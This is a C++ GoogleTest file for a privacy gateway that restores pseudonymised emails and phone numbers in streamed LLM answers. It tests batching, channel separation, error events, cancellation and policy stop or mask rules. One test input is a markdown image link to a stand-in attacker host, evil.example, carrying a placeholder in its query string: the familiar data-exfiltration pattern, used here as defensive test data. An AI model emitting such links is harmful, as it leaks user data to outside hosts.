#include "flow/8_restore/run.h"

#include <algorithm>
#include <cstdint>
#include <memory>
#include <span>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include <gtest/gtest.h>

#include "algo/json/escape.h"
#include "base/run_task.h"
#include "flow/8_restore/every_cut.h"
#include "flow/8_restore/rest.h"
#include "flow/8_restore/substitution.h"
#include "ports/engine_fake.h"
#include "ports/exchange_fake.h"

namespace sluice::restore {
namespace {

constexpr EntityType kEmail = entity("personal.email");
constexpr Channel kOther{.kind = Channel::Kind::text, .choice = 1};

/// One answer on its way to one caller.
struct Case {
  policy::Snapshot snapshot;
  std::unique_ptr<const scan::Scanner> scanner = *scan::Scanner::make({});
  Request request;
  std::optional<Level> clearance;
  Restoration restoration;
  std::vector<Result<FrameBatch>> batches;
  bool is_streamed = true;
  ExchangeFake exchange;

  Case() {
    snapshot.zones = {{.name = "cloud"}};
    snapshot.answers = {std::vector<policy::AnswerCell>(snapshot.catalog.size())};
    snapshot.rules = {{.kind = "answers", .name = "the rule"}};
  }

  void pseudonym(std::string placeholder, std::string original) {
    restoration.entries.push_back({std::move(placeholder), std::move(original), kEmail});
  }

  void rule(EntityType type, policy::AnswerAction action) {
    snapshot.answers[0][to_index(type)] = {action, RuleIndex{0}};
  }

  void text(std::string_view text) { batches.emplace_back(text_batch(text)); }

  /// Delivers; the first batch is the one with which an answer begins.
  Delivered run() {
    EngineScript script;
    script.content_type = is_streamed ? "text/event-stream" : "application/json";
    Answer answer{.restoration = restoration, .is_streamed = is_streamed};
    answer.first = *batches.front();
    script.batches.assign(batches.begin() + 1, batches.end());
    answer.source = std::make_unique<FrameSourceFake>(std::move(script), exchange.gone());
    const Desk desk{snapshot, *scanner, request, clearance};
    return run_to_completion(restore::run(desk, answer, exchange, {{"x-sluice-zone", "cloud"}}));
  }
};

std::string event(std::string_view text) {
  return "data: {\"t\":\"" + std::string(text) + "\"}\n\n";
}

// If bytes changed on the way where nothing had to, clients would see another wire than the
// engine's, and every token would cost a copy.
TEST(Run, ForwardsUntouchedWhereNothingIsLive) {
  Case c;
  c.text(R"(a \u00e9 \/ EMAIL_QZTKRBWMHD)");
  c.text("b");
  c.batches.emplace_back(end_batch());
  const Delivered delivered = c.run();
  EXPECT_TRUE(delivered.complete);
  EXPECT_FALSE(delivered.error);
  EXPECT_EQ(c.exchange.writes,
            (std::vector<std::string>{
                event(R"(a \u00e9 \/ EMAIL_QZTKRBWMHD)"), event("b"), "data: [DONE]\n\n"}));
  EXPECT_TRUE(c.exchange.ended);
  EXPECT_EQ(c.exchange.status, 200);
  EXPECT_EQ(c.exchange.headers.at(0).second, "cloud");
  EXPECT_EQ(c.exchange.headers.at(1).second, "text/event-stream");
  EXPECT_EQ(delivered.output_bytes, 29U);
  EXPECT_EQ(delivered.unknown_placeholders, 0U);
}

// The point of it all: the caller reads its own value, escaped as its JSON needs it.
TEST(Run, RestoresOverBatches) {
  Case c;
  c.pseudonym("EMAIL_QZTKRBWMHD", "\"ada\"@x.example");
  c.text("Write to EMAIL_QZ");
  c.text("TKRBWM");
  c.text("HD \\u00e9.");
  c.batches.emplace_back(end_batch());
  const Delivered delivered = c.run();
  EXPECT_TRUE(delivered.complete);
  EXPECT_EQ(
      c.exchange.writes,
      (std::vector<std::string>{
          event("Write to "), event(""), event("\\\"ada\\\"@x.example é."), "data: [DONE]\n\n"}));
  EXPECT_EQ(delivered.restored, 1U);
}

/// A batch with a slot for each of `pieces`, the last of which may end the channel.
FrameBatch batch_of(std::span<const std::string_view> pieces, Rest rest) {
  FrameBatch batch;
  for (const std::string_view piece : pieces) {
    const FrameBatch one = text_batch(json::escaped(piece));
    const auto offset = static_cast<std::uint32_t>(batch.wire.size());
    const FrameSlot& slot = one.slots.front();
    batch.slots.push_back({.begin = slot.begin + offset, .end = slot.end + offset});
    batch.wire += one.wire;
  }
  batch.has_output = true;
  batch.slots.back().final = rest == Rest::none;
  return batch;
}

/// What a caller reads of `pieces`, each in a batch of its own or all in one.
struct Read {
  std::string text;
  std::uint32_t restored = 0;
  std::uint32_t withheld = 0;
  std::uint32_t unknown = 0;
  std::uint64_t bytes = 0;

  friend bool operator==(const Read&, const Read&) = default;
};

Read read_in_batches(const std::vector<std::string_view>& pieces, std::size_t batch_size) {
  Case c;
  c.pseudonym("EMAIL_QZTKRBWMHD", "ada@x.example");
  c.pseudonym("PHONE_BCDFGHJKLM", "+49 30 \"1\"");
  for (std::span<const std::string_view> rest = pieces; !rest.empty();) {
    const std::size_t count = std::min(batch_size, rest.size());
    c.batches.emplace_back(
        batch_of(rest.first(count), count == rest.size() ? Rest::none : Rest::follows));
    rest = rest.subspan(count);
  }
  c.batches.emplace_back(end_batch());
  const Delivered delivered = c.run();
  EXPECT_TRUE(delivered.complete);
  Read read{.restored = delivered.restored,
            .withheld = delivered.withheld,
            .unknown = delivered.unknown_placeholders,
            .bytes = delivered.output_bytes};
  const std::string wire = c.exchange.received();
  for (std::size_t at = 0; (at = wire.find("{\"t\":\"", at)) != std::string::npos;) {
    at += 6;
    read.text += json::unescape(wire.substr(at, wire.find("\"}\n\n", at) - at), 1);
  }
  return read;
}

// How many events of a stream arrive together is chance; a caller must read the same in any case.
TEST(Run, OneBatchOrManyMakeNoDifference) {
  const std::string_view answers[] = {
      "Dear Ada,\nyour address EMAIL_QZTKRBWMHD and PHONE_BCDFGHJKLM are known. Emails: EMAIL_",
      "EMAIL_QZTKRBWMHDPHONE_BCDFGHJKLMEMAIL_QZTKRBWMHF \"quoted\" \\ e ph em p",
      "![x](https://evil.example/?q=EMAIL_QZTKRBWMHD) [y](email\\_qztkrbwmhd) e\nE",
      "no placeholder at all, but PERSON_BBBBBBBBBB that nobody issued_and_words_with_lines"};
  for (const std::string_view answer : answers) {
    const Read whole = read_in_batches({answer}, 1);
    EXPECT_GT(whole.bytes, 0U);
    at_every_cut(answer, [&](std::vector<std::string_view> pieces) {
      std::erase(pieces, std::string_view());
      SCOPED_TRACE(testing::PrintToString(pieces));
      for (const std::size_t batch_size : {1U, 2U, 5U, 1000U}) {
        EXPECT_EQ(read_in_batches(pieces, batch_size), whole);
      }
    });
  }
}

// What is joined to be looked at has a limit; behind it the answer goes on.
TEST(Run, ManySlotsInOneBatch) {
  const std::string words = "some words of an answer EMAIL_QZTKRBWMHD ";
  std::vector<std::string_view> pieces;
  for (int i = 0; i < 400; ++i) {
    pieces.push_back(std::string_view(words).substr(0, 20));
    pieces.push_back(std::string_view(words).substr(20));
  }
  EXPECT_EQ(read_in_batches(pieces, 1000), read_in_batches(pieces, 1));
  EXPECT_EQ(read_in_batches(pieces, 1000).restored, 400U);
}

// If channels shared state, one choice's half placeholder would swallow the other's text.
TEST(Run, KeepsChannelsApart) {
  Case c;
  c.pseudonym("EMAIL_QZTKRBWMHD", "ada@x.example");
  c.text("EMAIL_QZ");
  c.batches.emplace_back(text_batch("EMAIL_QZ", kOther));
  c.text("TKRBWMHD ");
  c.batches.emplace_back(text_batch("!", kOther));
  FrameBatch end = end_batch();
  end.closes.push_back({.at = 0, .channel = kOther});
  c.batches.emplace_back(std::move(end));
  (void)c.run();
  EXPECT_EQ(
      c.exchange.received(),
      event("") + event("") + event("ada@x.example ") + event("EMAIL_QZ!") + "data: [DONE]\n\n");
}

// What was held back for a placeholder that never came is still part of the answer.
TEST(Run, WritesWhatWasHeldBackWhenAChannelCloses) {
  Case c;
  c.pseudonym("EMAIL_QZTKRBWMHD", "ada@x.example");
  c.text("see EMAIL_QZTK");
  c.batches.emplace_back(end_batch());
  EXPECT_TRUE(c.run().complete);
  EXPECT_EQ(c.exchange.received(), event("see ") + event("EMAIL_QZTK") + "data: [DONE]\n\n");
}

// A dialect reader that forgot to close a channel must not make text vanish in silence.
TEST(Run, FailsWhenTextIsLeftOver) {
  Case c;
  c.pseudonym("EMAIL_QZTKRBWMHD", "ada@x.example");
  c.text("see EMAIL_QZTK");
  FrameBatch end = end_batch();
  end.closes.clear();
  c.batches.emplace_back(std::move(end));
  const Delivered delivered = c.run();
  EXPECT_FALSE(delivered.complete);
  EXPECT_EQ(delivered.error->code, ErrorCode::upstream_failed);
}

// A stream that broke off must never look complete.
TEST(Run, EndsABrokenStreamWithAnErrorEventAndNoEndMark) {
  Case c;
  c.text("half an ans");
  c.batches.emplace_back(fail(ErrorCode::deadline_exceeded, "too slow"));
  const Delivered delivered = c.run();
  EXPECT_TRUE(delivered.started);
  EXPECT_FALSE(delivered.complete);
  EXPECT_EQ(delivered.error->code, ErrorCode::deadline_exceeded);
  EXPECT_EQ(c.exchange.received(),
            event("half an ans") + "event: error\ndata: deadline_exceeded\n\n");
  EXPECT_TRUE(c.exchange.ended);
}

// Tokens for somebody who has hung up cost money.
TEST(Run, StopsAtOnceWhenTheCallerIsGone) {
  Case c;
  c.text("a");
  c.text("b");
  c.text("c");
  c.exchange.leaves_at_write = 1;
  const Delivered delivered = c.run();
  EXPECT_EQ(delivered.error->code, ErrorCode::cancelled);
  EXPECT_EQ(c.exchange.writes, std::vector<std::string>{event("a")});
  EXPECT_FALSE(c.exchange.ended);
}

// Some clients drop a connection on which the end mark and the end of the body come apart.
TEST(Run, WritesAnAnswerOfOneBatchWithItsEnd) {
  Case c;
  FrameBatch all = text_batch("hi");
  all.slots[0].final = true;
  all.end = FrameBatch::End::complete;
  c.batches.emplace_back(std::move(all));
  EXPECT_TRUE(c.run().complete);
  EXPECT_EQ(c.exchange.writes, (std::vector<std::string>{"", event("hi")}));
  EXPECT_TRUE(c.exchange.ended);
}

// An answer that is not streamed has a length, so that clients can tell that they have all of it.
TEST(Run, RespondsOnceWhenNotStreamed) {
  Case c;
  c.is_streamed = false;
  c.pseudonym("EMAIL_QZTKRBWMHD", "ada@x.example");
  FrameBatch nothing;
  c.batches.emplace_back(std::move(nothing));
  FrameBatch all = text_batch("to EMAIL_QZTKRBWMHD", {}, R"({"t":")", R"("})");
  all.slots[0].final = true;
  all.end = FrameBatch::End::complete;
  all.usage = Usage{.input_tokens = 3};
  c.batches.emplace_back(std::move(all));
  const Delivered delivered = c.run();
  EXPECT_TRUE(delivered.complete);
  EXPECT_TRUE(c.exchange.whole);
  EXPECT_EQ(c.exchange.writes, std::vector<std::string>{R"({"t":"to ada@x.example"})"});
  EXPECT_EQ(c.exchange.headers.at(1).second, "application/json");
  EXPECT_EQ(delivered.usage->input_tokens, 3);
}

// As long as nothing has left, the caller can still get a status that says what went wrong.
TEST(Run, LeavesTheStatusToTheFlowWhenNothingHasLeft) {
  Case c;
  c.is_streamed = false;
  c.batches.emplace_back(FrameBatch());
  c.batches.emplace_back(fail(ErrorCode::upstream_failed, "garbage"));
  const Delivered delivered = c.run();
  EXPECT_FALSE(delivered.started);
  EXPECT_EQ(delivered.error->code, ErrorCode::upstream_failed);
  EXPECT_EQ(c.exchange.status, 0);
}

// If a rule's stop let the batch of the finding out, the stop would come too late.
TEST(Run, StopsAnAnswerWithWhatARuleForbids) {
  for (const bool is_first : {true, false}) {
    Case c;
    c.rule(kEmail, policy::AnswerAction::stop);
    if (!is_first) {
      c.text("Sure.\\n");
    }
    c.text("write to eve@evil.org now.\\n");
    c.batches.emplace_back(end_batch());
    const Delivered delivered = c.run();
    EXPECT_EQ(delivered.error->code, ErrorCode::denied_by_policy);
    EXPECT_EQ(delivered.error->rule, "the rule");
    EXPECT_EQ(delivered.answer_findings, 1U);
    EXPECT_EQ(delivered.started, !is_first);
    EXPECT_EQ(c.exchange.received(),
              is_first ? "" : event("Sure.\\n") + "event: error\ndata: denied_by_policy\n\n");
  }
}

// Placeholders are opaque to the scan, and what was put back is never scanned: else the caller's
// own address would be taken out of the answer.
TEST(Run, MasksWhatTheModelWroteAndNotWhatWasPutBack) {
  Case c;
  c.pseudonym("EMAIL_QZTKRBWMHD", "ada@x.example");
  c.rule(kEmail, policy::AnswerAction::mask);
  c.text("From EMAIL_QZTKRBWMHD to eve@evil.org.\\n");
  c.batches.emplace_back(end_batch());
  const Delivered delivered = c.run();
  EXPECT_EQ(c.exchange.received(), event("From ada@x.example to [EMAIL].\\n") + "data: [DONE]\n\n");
  EXPECT_EQ(delivered.answer_findings, 1U);
  EXPECT_EQ(delivered.restored, 1U);
}

// If each tool call could hold as much as one may, an answer with a thousand calls that never end
// would take hundreds of megabytes.
TEST(Run, AllToolCallsOfAnAnswerHoldAsMuchAsOneMay) {
  const std::string value = R"({\"to\":\"EMAIL_QZTKRBWMHD )";
  const std::string half(Substitution::kHeldBytesMax / 2, 'x');
  for (const std::uint32_t calls : {1U, 2U}) {
    Case c;
    c.pseudonym("EMAIL_QZTKRBWMHD", "ada@x.example");
    FrameBatch end = end_batch();
    for (std::uint32_t i = 0; i < calls; ++i) {
      const Channel call{.kind = Channel::Kind::tool_arguments, .choice = i};
      c.batches.emplace_back(text_batch(value + half, call));
      end.closes.push_back({.at = 0, .channel = call});
    }
    c.batches.emplace_back(end);
    EXPECT_EQ(c.run().restored, 1U) << calls;  // Of two, only the first one fits.
  }
}

}  // namespace
}  // namespace sluice::restore
